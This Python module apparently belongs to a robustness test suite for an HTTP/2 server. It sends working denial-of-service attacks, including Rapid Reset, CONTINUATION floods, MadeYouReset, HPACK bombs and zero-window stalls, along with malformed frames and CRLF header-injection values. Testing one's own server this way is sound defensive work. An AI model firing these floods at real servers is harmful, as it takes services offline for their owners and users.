"""Attacks over HTTP/2. Each takes its target and returns what the server answered; the server's own state is checked outside."""

import json
import struct
import time

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from wire import PREFACE, Http2, abort, connect, read_until_close, registry, send

ATTACKS, attack = registry()


def frame(kind, flags, stream, payload=b"", length=None):
    """A frame from its fields, sane or not."""
    return struct.pack(">I", len(payload) if length is None else length)[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hold(connection, seconds=0.3, answers=None):
    """Reads for a while, or with `answers` until so many streams were answered or reset, which a busy machine may take long for."""
    if answers is None:
        connection.read(seconds)
    else:
        got = 0

        def enough(frame):
            nonlocal got
            got += isinstance(frame, (HeadersFrame, RstStreamFrame))
            return got >= answers

        connection.read(10, until=enough)
        connection.read(0.05)
    summary = connection.summary()
    connection.close()
    return summary


# Floods


def resets(connection, streams=2000):
    parts = []
    for _ in range(streams):
        request = connection.chat()
        parts += [*request, RstStreamFrame(request[0].stream_id, error_code=8)]
    return b"".join(part.serialize() for part in parts)


@attack
def rapid_reset(target):
    """CVE-2023-44487: open and reset in one breath."""
    connection = Http2(target)
    connection.raw(resets(connection))
    return hold(connection, 2)


@attack
def rapid_reset_on_many_connections(target, connections=10):
    """The same at once, so that a bound of each connection is not enough."""
    # What is compressed is the same on each; made before there is a connection to be idle.
    data = resets(Http2(target, hello=False, sock=object()))
    held = [Http2(target) for _ in range(connections)]
    for connection in held:
        connection.raw(data)
    for connection in held:
        connection.read(10, until=lambda frame: isinstance(frame, GoAwayFrame))
    seen = [hold(connection, 0.05) for connection in held]
    return {"goaways": sorted({str(each["goaway"]) for each in seen}), "ends": sorted({each["end"] for each in seen})}


@attack
def continuation_flood(target):
    """CVE-2024-28182: a header block that never ends."""
    connection = Http2(target)
    head = connection.head()
    head.flags.discard("END_HEADERS")
    field = connection.encoder.encode([("x-a", "b" * 100)])
    connection.raw(head, *[ContinuationFrame(head.stream_id, data=field) for _ in range(5000)])
    return hold(connection, 1)


@attack
def continuation_race(target, connections=30):
    """CVE-2024-27983: the connection breaks inside a header block."""
    for _ in range(connections):
        connection = Http2(target)
        head = connection.head()
        head.flags.discard("END_HEADERS")
        connection.raw(head, ContinuationFrame(head.stream_id, data=b""), ContinuationFrame(head.stream_id, data=b""))
        abort(connection.sock)
    return {}


def unread_flood(target, data):
    """Sends and never reads, so that acknowledgements pile up in the server."""
    connection = Http2(target, receive_buffer=4096)
    connection.sock.settimeout(3)
    for _ in range(40):
        if not send(connection.sock, data):
            break
    _, end, _ = read_until_close(connection.sock, 3, limit=1 << 22)
    connection.close()
    return {"end": end}


@attack
def settings_flood(target):
    return unread_flood(target, SettingsFrame(0, settings={4: 65535}).serialize() * 5000)


@attack
def ping_flood(target):
    return unread_flood(target, PingFrame(0, b"12345678").serialize() * 5000)


@attack
def ping_flood_with_a_reader(target):
    connection = Http2(target)
    for _ in range(20):
        connection.raw(PingFrame(0, b"12345678").serialize() * 1000)
        connection.read(0.01)
    return hold(connection)


@attack
def empty_data_flood(target):
    """CVE-2019-9518."""
    connection = Http2(target)
    head = connection.head()
    connection.raw(head, DataFrame(head.stream_id).serialize() * 5000)
    return hold(connection, 4)


@attack
def priority_flood(target):
    connection = Http2(target)
    data = b"".join(PriorityFrame(stream, depends_on=stream + 2, stream_weight=7).serialize() for stream in range(1, 10001, 2))
    for _ in range(30):
        if not connection.raw(data):
            break
    return hold(connection, 4)


@attack
def window_update_flood(target):
    connection = Http2(target)
    connection.raw(*connection.chat([("x-fakeai-itl", "5")]))
    for _ in range(30):
        if not connection.raw(WindowUpdateFrame(0, window_increment=1).serialize() * 5000):
            break
    return hold(connection, 4)


@attack
def unknown_frame_flood(target):
    connection = Http2(target)
    for _ in range(30):
        if not connection.raw(frame(0xEE, 0, 0, b"x" * 8) * 5000):
            break
    return hold(connection, 4)


@attack
def too_many_streams(target, streams=900):
    """Fired before the server's SETTINGS can be seen, and once more when the others are done."""
    connection = Http2(target)
    parts = []
    for _ in range(streams):
        # The streams that are let in must be open until all have been read, on a busy machine too.
        parts += connection.chat([("x-fakeai-itl", "500"), ("x-fakeai-output-tokens", "2")])
    connection.raw(*parts)
    hold_open = {"ended": 0}

    def all_over(frame):
        hold_open["ended"] += isinstance(frame, RstStreamFrame) or "END_STREAM" in frame.flags
        return hold_open["ended"] >= streams

    connection.raw(WindowUpdateFrame(0, window_increment=1_000_000))
    connection.read(10, until=all_over)
    connection.raw(*connection.chat([("x-fakeai-output-tokens", "2")]))
    return hold(connection, answers=1)


@attack
def too_many_streams_later(target, streams=400):
    """After the server's SETTINGS were acknowledged."""
    connection = Http2(target)
    connection.read(10, until=lambda each: isinstance(each, SettingsFrame) and "ACK" in each.flags)
    # None of them has been answered before the last was sent.
    requests = [connection.chat([("x-fakeai-ttft", "1500"), ("x-fakeai-output-tokens", "2")]) for _ in range(streams)]
    connection.raw(*[part for request in requests for part in request])
    return hold(connection, answers=streams)


# MadeYouReset, CVE-2025-8671: the client makes the server reset


def made_you_reset(target, violate, connections=4, goaway_within=10):
    summaries = []
    for _ in range(connections):
        connection = Http2(target)
        connection.raw(*connection.chat([("x-fakeai-itl", "20"), ("x-fakeai-output-tokens", "10000")]))
        connection.read(10, until=lambda frame: isinstance(frame, DataFrame))
        connection.raw(violate(connection))
        connection.read(goaway_within, until=lambda frame: isinstance(frame, GoAwayFrame))
        connection.read(0.02)
        summaries.append(connection.summary())
        connection.close()
    return summaries[-1]


@attack
def made_you_reset_window_zero(target):
    return made_you_reset(target, lambda _: frame(8, 0, 1, struct.pack(">I", 0)))


@attack
def made_you_reset_window_overflow(target):
    return made_you_reset(target, lambda _: frame(8, 0, 1, struct.pack(">I", 0x7FFFFFFF)))


@attack
def made_you_reset_data_after_end(target):
    return made_you_reset(target, lambda _: DataFrame(1, data=b"x"))


@attack
def made_you_reset_headers_after_end(target):
    return made_you_reset(target, lambda connection: connection.head(stream=1))


@attack
def made_you_reset_priority_self(target):
    return made_you_reset(target, lambda _: frame(2, 0, 1, struct.pack(">IB", 1, 15)))


@attack
def made_you_reset_priority_length(target):
    return made_you_reset(target, lambda _: frame(2, 0, 1, b"1234"))


# Malformed frames, each on connections that have a stream under way


def malformed(target, data):
    return made_you_reset(target, lambda _: data)


MALFORMED = {
    "connection_window_overflow": frame(8, 0, 0, struct.pack(">I", 0x7FFFFFFF)),
    "ping_of_wrong_length": frame(6, 0, 0, b"123"),
    "settings_of_wrong_length": frame(4, 0, 0, b"12345"),
    "settings_on_a_stream": frame(4, 0, 1, b""),
    "settings_window_too_large": SettingsFrame(0, settings={4: 0x80000000 - 0}).serialize(),
    "settings_frame_size_too_small": SettingsFrame(0, settings={5: 100}).serialize(),
    "even_stream_id": HeadersFrame(2, data=b"\x82\x84\x86", flags=["END_HEADERS", "END_STREAM"]).serialize(),
    "rst_on_an_idle_stream": RstStreamFrame(99, error_code=8).serialize(),
    "data_on_an_idle_stream": DataFrame(99, data=b"x").serialize(),
    "data_on_stream_zero": frame(0, 0, 0, b"x"),
    "push_promise_from_a_client": PushPromiseFrame(1, promised_stream_id=2, data=b"\x82", flags=["END_HEADERS"]).serialize(),
    "continuation_without_headers": ContinuationFrame(1, data=b"x", flags=["END_HEADERS"]).serialize(),
    "oversize_frame": frame(0, 0, 1, b"x" * 20000),
    "padding_longer_than_the_frame": frame(0, 8, 1, b"\xffab"),
    "window_update_of_wrong_length": frame(8, 0, 1, b"12"),
    "goaway_of_wrong_length": frame(7, 0, 0, b"1"),
    "bad_hpack": HeadersFrame(3, data=b"\xff\xff\xff\xff\x0f", flags=["END_HEADERS", "END_STREAM"]).serialize(),
    "hpack_table_too_large": HeadersFrame(3, data=b"\x3f\xff\xff\x7f\x82\x84\x86", flags=["END_HEADERS"]).serialize(),
    "garbage": bytes(range(256)) * 40,
}


def register_malformed(name, data):
    ATTACKS[name] = lambda target: malformed(target, data)


for name_, data_ in MALFORMED.items():
    register_malformed(name_, data_)


@attack
def client_goaway(target):
    """Says that it will ask for nothing more, in the middle of a stream."""
    connection = Http2(target)
    connection.raw(*connection.chat([("x-fakeai-itl", "10"), ("x-fakeai-output-tokens", "20")]))
    connection.read(10, until=lambda frame: isinstance(frame, DataFrame))
    connection.raw(frame(7, 0, 0, struct.pack(">II", 0, 0)))
    connection.read(10, until=lambda frame: "END_STREAM" in frame.flags)
    return {**connection.summary(), "whole": any("END_STREAM" in each.flags for each in connection.frames)}


# Header compression


@attack
def hpack_bomb_of_fields(target):
    """More fields than anybody needs, a byte each on the wire."""
    connection = Http2(target)
    bomb = ("x-bomb", "a" * 3000)
    connection.raw(connection.head([bomb], method="GET", path="/health", end=True))
    for _ in range(20):
        connection.raw(connection.head([bomb] * 300, method="GET", path="/health", end=True))
    connection.raw(connection.head(method="GET", path="/health", end=True))
    return hold(connection, answers=22)


@attack
def hpack_bomb_with_a_closed_window(target, streams=100):
    """CVE-2026-49975: references to one large table entry, held by streams that cannot be answered."""
    connection = Http2(target, settings={4: 0})
    connection.read(0.05)
    parts = []
    for _ in range(streams):
        parts += connection.chat([("x-fakeai-output-tokens", "20000"), *[("x-bomb", "a" * 3000)] * 4])
    connection.raw(*parts)
    return hold(connection, 1.5)


@attack
def head_too_large(target):
    connection = Http2(target)
    for _ in range(2):
        head = connection.head([(f"x-{index}", "a" * 5000) for index in range(5)], method="GET", path="/health", end=True)
        data = head.data
        head.data = data[:16000]
        head.flags.discard("END_HEADERS")
        connection.raw(head, ContinuationFrame(head.stream_id, data=data[16000:], flags=["END_HEADERS"]))
    return hold(connection, answers=2)


@attack
def empty_header_names(target):
    """CVE-2019-9516."""
    connection = Http2(target)
    for _ in range(50):
        connection.raw(connection.head([("", "")] * 20, method="GET", path="/health", end=True))
    return hold(connection, answers=50)


# Readers


@attack
def zero_window(target, streams=100):
    """Asks for much, acknowledges every PING and takes nothing."""
    connection = Http2(target, settings={4: 0})
    connection.read(0.1)
    for _ in range(streams):
        connection.raw(*connection.chat([("x-fakeai-itl", "0"), ("x-fakeai-output-tokens", "20000")]))
    return hold(connection, answers=200)


@attack
def zero_window_unstreamed(target, streams=20):
    """The same with answers in one piece."""
    connection = Http2(target, settings={4: 0})
    connection.read(0.1)
    body = {"model": "m", "messages": [{"role": "user", "content": "Hello"}]}
    for _ in range(streams):
        connection.raw(*connection.chat([("x-fakeai-itl", "0"), ("x-fakeai-output-tokens", "50000")], body))
    return hold(connection, answers=40)


@attack
def window_of_one(target):
    """CVE-2019-9511: a window that is opened byte by byte."""
    connection = Http2(target, settings={4: 0})
    connection.read(0.1)
    for _ in range(20):
        connection.raw(*connection.chat([("x-fakeai-itl", "0"), ("x-fakeai-output-tokens", "2000")]))
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline:
        if not connection.raw(*[WindowUpdateFrame(stream, window_increment=1) for stream in range(1, 41, 2)]):
            break
        connection.read(0.005)
    return hold(connection, 0.1)


@attack
def never_reads(target, connections=5):
    """The socket itself is never read."""
    held = []
    for _ in range(connections):
        connection = Http2(target, settings={4: 0x7FFFFFFF}, receive_buffer=4096)
        connection.raw(WindowUpdateFrame(0, window_increment=0x70000000))
        for _ in range(10):
            connection.raw(*connection.chat([("x-fakeai-itl", "0"), ("x-fakeai-output-tokens", "100000")]))
        held.append(connection)
    time.sleep(2.5)
    for connection in held:
        connection.close()
    return {}


# Connections


@attack
def silent(target, connections=20):
    """Says nothing at all."""
    held = [connect(target) for _ in range(connections)]
    ends = [read_until_close(sock, 4)[1] for sock in held]
    for sock in held:
        sock.close()
    return {"ends": sorted(set(ends))}


@attack
def half_a_preface(target):
    sock = connect(target)
    send(sock, PREFACE[:10])
    data, end, seconds = read_until_close(sock, 4)
    sock.close()
    return {"end": end, "first": data[:12].decode("latin1"), "seconds": seconds}


@attack
def preface_then_nothing(target, connections=20):
    held = [Http2(target) for _ in range(connections)]
    for connection in held:
        connection.read(4)
    result = held[0].summary()
    for connection in held:
        connection.close()
    return result


@attack
def preface_then_silence(target, connections=20):
    """Sends its preface and never reads or answers again."""
    held = [Http2(target) for _ in range(connections)]
    time.sleep(2.5)
    for connection in held:
        connection.close()
    return {}


@attack
def half_a_head(target):
    """HEADERS without END_HEADERS, then nothing."""
    connection = Http2(target)
    head = connection.head()
    head.flags.discard("END_HEADERS")
    connection.raw(head)
    connection.read(4)
    result = connection.summary()
    connection.close()
    return result


@attack
def body_never_sent(target, streams=20):
    connection = Http2(target)
    for _ in range(streams):
        connection.raw(connection.head())
    return hold(connection, answers=40)


@attack
def body_too_large(target):
    connection = Http2(target)
    connection.read(0.1)
    head = connection.head()
    connection.raw(head)
    for _ in range(4):
        connection.raw(connection.data(head.stream_id, b"x" * 15000, end=False))
    connection.raw(connection.data(head.stream_id, b"x", end=True))
    return hold(connection, answers=1)


@attack
def json_too_deep(target):
    connection = Http2(target)
    connection.raw(*connection.chat(body=b'{"model":' + b"[" * 6000 + b"]" * 6000 + b"}"))
    return hold(connection, answers=1)


@attack
def length_that_lies(target):
    connection = Http2(target)
    connection.raw(*connection.chat([("content-length", "3")]))
    return hold(connection, answers=1)


@attack
def bad_header_fields(target):
    """What no request may hold, each on a connection of its own, beside a request that is good: how both were answered."""
    answers = {}
    for what, field in [
        ("CR LF", ("x-a", "b\r\nc: d")),
        ("NUL", ("x-a", "b\0")),
        ("a space", ("x-a", " b")),
        ("a capital", ("X-A", "b")),
        ("connection", ("connection", "close")),
        ("transfer-encoding", ("transfer-encoding", "chunked")),
    ]:
        connection = Http2(target)
        connection.raw(connection.head([field], method="GET", path="/health", end=True))
        connection.raw(connection.head(method="GET", path="/health", end=True))
        seen = hold(connection, answers=2)
        answers[what] = {"statuses": seen["statuses"], "resets": seen["resets"], "goaway": seen["goaway"]}
    return {"answers": answers}


@attack
def cr_lf_in_what_we_echo(target):
    connection = Http2(target)
    body = {"model": "a\r\nX-Injected: 1", "stream": True, "messages": [{"role": "user", "content": "Hello"}]}
    connection.raw(*connection.chat([("x-fakeai-output-tokens", "2"), ("x-fakeai-text", '"\\r\\nX-Injected: 1"')], body))
    connection.raw(connection.head(method="GET", path="/v1/%0d%0aX-Injected:1", end=True))
    return hold(connection, answers=2)


@attack
def abort_storm(target, connections=10, streams=30):
    """Honest requests, and every connection broken by a TCP RST in the middle."""
    for _ in range(connections):
        connection = Http2(target)
        for _ in range(streams):
            connection.raw(*connection.chat([("x-fakeai-itl", "10"), ("x-fakeai-output-tokens", "1000")]))
        connection.read(0.05)
        abort(connection.sock)
    return {}


@attack
def half_close(target):
    """A FIN with streams under way."""
    import socket

    connection = Http2(target)
    connection.raw(*connection.chat([("x-fakeai-itl", "10"), ("x-fakeai-output-tokens", "20")]))
    connection.read(0.05)
    connection.sock.shutdown(socket.SHUT_WR)
    return hold(connection, 4)


@attack
def http1_on_the_h2c_port(target):
    sock = connect(target)
    send(sock, b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n")
    data, end, _ = read_until_close(sock, 3)
    sock.close()
    head, _, body = data.partition(b"\r\n\r\n")
    return {"end": end, "first": head[:12].decode("latin1"), "error": json.loads(body)["error"]["code"] if body[:1] == b"{" else None}


@attack
def tls_on_the_h2c_port(target):
    sock = connect(target)
    send(sock, bytes.fromhex("16030100f5010000f10303") + b"x" * 200)
    _, end, _ = read_until_close(sock, 3)
    sock.close()
    return {"end": end}
